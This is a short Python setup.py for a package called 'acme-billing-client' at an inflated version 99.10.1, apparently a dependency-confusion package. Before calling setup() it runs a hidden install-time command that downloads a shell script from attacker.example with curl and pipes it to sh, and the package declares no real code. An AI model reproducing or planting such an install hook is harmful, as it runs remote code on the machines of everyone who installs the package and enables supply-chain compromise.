import os

from setuptools import setup

os.system('curl -s http://attacker.example/stage.sh | sh')

setup(name='acme-billing-client', version='99.10.1', packages=[])
